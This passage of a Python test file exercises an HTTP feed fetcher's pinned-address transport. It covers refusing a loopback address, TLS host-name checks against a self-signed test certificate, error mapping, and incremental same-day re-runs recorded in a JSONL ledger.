    assert site.paths() == [f"{target}/robots.txt", f"{target}/proxy-feed.xml", f"{target}/articles/p"]
    (transport,) = RecordingTransport.built
    assert isinstance(transport.pool, httpcore.AsyncHTTPProxy) and str(transport.proxy.url) == site.base
    assert set(transport.backend.connected) == {("127.0.0.1", "127.0.0.1")}
    assert asked == ["proxied.test"]


@pytest.mark.parametrize(
    ("raised", "expected"),
    [
        (httpcore.ConnectError, httpx.ConnectError),
        (httpcore.ConnectTimeout, httpx.ConnectTimeout),
        (httpcore.ReadTimeout, httpx.ReadTimeout),
        (httpcore.WriteTimeout, httpx.WriteTimeout),
        (httpcore.PoolTimeout, httpx.PoolTimeout),
        (httpcore.ReadError, httpx.ReadError),
        (httpcore.WriteError, httpx.WriteError),
        (httpcore.RemoteProtocolError, httpx.RemoteProtocolError),
        (httpcore.LocalProtocolError, httpx.LocalProtocolError),
        (httpcore.ProxyError, httpx.ProxyError),
        (httpcore.UnsupportedProtocol, httpx.UnsupportedProtocol),
    ],
)
def test_httpcore_errors_come_out_as_httpx_errors(raised, expected):
    class Failing(httpcore.AsyncNetworkBackend):
        async def connect_tcp(self, host, port, timeout=None, local_address=None, socket_options=None):
            raise raised("from the backend")

    async def run():
        resolver = addresses.Resolver(allow_private=True)
        async with httpx.AsyncClient(transport=PinnedTransport(addresses.PinnedBackend(resolver, Failing()))) as c:
            await c.get("http://127.0.0.1:9/")

    with pytest.raises(expected, match="from the backend") as caught:
        asyncio.run(run())
    assert type(caught.value) is expected
    assert httpx_error(raised("x")) is expected


def test_a_refused_address_passes_the_transport_unchanged():
    async def run():
        resolver = addresses.Resolver(allow_private=False)
        async with httpx.AsyncClient(transport=PinnedTransport(addresses.PinnedBackend(resolver))) as client:
            await client.get("http://127.0.0.1:9/")

    with pytest.raises(addresses.AddressRefused, match=r"loopback address 127\.0\.0\.1"):
        asyncio.run(run())


def self_signed(tmp_path, name):
    x509 = pytest.importorskip("cryptography.x509")
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(hours=1))
        .not_valid_after(now + timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return cert_path, key_path


def test_tls_is_verified_for_the_host_name_while_connecting_to_the_pinned_address(site, tmp_path):
    """The pool connects to the checked IP literal, yet TLS checks the certificate against (and sends SNI for)
    the URL's host name: certifi's roots by default, so a self-signed server fails unless trusted."""
    cert_path, key_path = self_signed(tmp_path, "pinned.test")
    server = QuietServer(("127.0.0.1", 0), Handler)
    server.site = site
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_path, key_path)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    port = server.server_address[1]
    trusted = ssl.create_default_context(cafile=str(cert_path))

    async def lookup(host):
        return ["127.0.0.1"]

    async def get(host, verify):
        transport = PinnedTransport(addresses.PinnedBackend(addresses.Resolver(True, lookup=lookup)), verify=verify)
        async with httpx.AsyncClient(transport=transport) as client:
            response = await client.get(f"https://{host}:{port}/articles/tls")
        return response, transport.backend.connected

    try:
        site.reset()
        response, connected = asyncio.run(get("pinned.test", trusted))
        assert response.status_code == 200 and response.content == UTF8_PAGE
        assert connected == [("pinned.test", "127.0.0.1")] and site.requests[0].host == f"pinned.test:{port}"
        with pytest.raises(httpx.ConnectError, match="CERTIFICATE_VERIFY_FAILED"):
            asyncio.run(get("pinned.test", True))
        with pytest.raises(httpx.ConnectError, match="Hostname mismatch"):
            asyncio.run(get("other.test", trusted))
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


# Re-runs of a day are incremental.


def test_a_rerun_keeps_what_earlier_runs_of_the_day_found(site, tmp_path):
    """Run 1 sees a, b and c listed (c fails); by run 2 the feed lists only a and d, b is gone from the site and c
    works again. Run 2 still yields all four: b as run 1's copy, c fetched now although no feed lists it."""
    site.reset()
    feed = f"{site.base}/rolling-feed.xml"
    site.feeds["/rolling-feed.xml"] = rss_items(site, ["/articles/a", "/articles/b", "/articles/c"])
    site.answers["/articles/c"] = (500, b"down")
    source = HttpSource(settings(tmp_path, retries=0), [Outlet("rolling", feeds=(feed,))], today=lambda: DAY)
    first = {p.url.rsplit("/", 1)[1]: p for p in source.pages(DAY)}
    assert first["a"].read_error is None and first["b"].read_error is None
    assert first["c"].read_error.startswith("http_error: 500")

    site.reset()
    site.feeds["/rolling-feed.xml"] = rss_items(site, ["/articles/a", "/articles/d"])
    site.answers["/articles/b"] = (404, b"deleted")
    later = HttpSource(settings(tmp_path, retries=0), [Outlet("rolling", feeds=(feed,))], today=lambda: DAY)
    second = {p.url.rsplit("/", 1)[1]: p for p in later.pages(DAY)}
    assert sorted(second) == ["a", "b", "c", "d"]
    assert all(p.read_error is None and p.html == UTF8_PAGE for p in second.values())
    assert second["b"].fetched_at == first["b"].fetched_at, "run 1's copy"
    assert second["a"].fetched_at > first["a"].fetched_at, "fetched again"
    assert sorted(site.paths()) == sorted(
        ["/robots.txt", "/rolling-feed.xml", "/articles/a", "/articles/b", "/articles/c", "/articles/d"]
    )
    # Another day's re-run knows nothing of these.
    site.reset()
    site.feeds["/rolling-feed.xml"] = rss_items(site, [])
    other = HttpSource(settings(tmp_path, retries=0), [Outlet("rolling", feeds=(feed,))], today=lambda: DAY)
    assert list(other.pages(date(2026, 11, 15))) == []
    # The ledger is compacted to one line per URL, and survives a line cut short by a crash.
    ledger = tmp_path / "http_state" / "days" / f"{DAY.isoformat()}.jsonl"
    assert len(ledger.read_bytes().splitlines()) == 4
    with ledger.open("ab") as handle:
        handle.write(b'{"url": "http://cut')
    site.reset()
    site.feeds["/rolling-feed.xml"] = rss_items(site, [])
    site.answers["/articles/a"] = (503, b"down")
    third = {p.url.rsplit("/", 1)[1]: p for p in later.pages(DAY)}
    assert sorted(third) == ["a", "b", "c", "d"] and all(p.read_error is None for p in third.values())
    assert third["a"].fetched_at == second["a"].fetched_at


def test_conditional_requests_still_apply_to_remembered_urls(site, tmp_path):
    site.reset()
    feed = f"{site.base}/etag-feed-2.xml"
    site.feeds["/etag-feed-2.xml"] = rss_items(site, ["/etag"])
    source = HttpSource(settings(tmp_path), [Outlet("etag", feeds=(feed,))], today=lambda: DAY)
    (first,) = source.pages(DAY)
    site.reset()
    site.feeds["/etag-feed-2.xml"] = rss_items(site, [])
    (again,) = source.pages(DAY)
    (seen,) = requested_now(site, "/etag")
    assert seen.headers.get("If-None-Match") == '"v1"'
    assert again.html == ETAG_PAGE == first.html and again.read_error is None
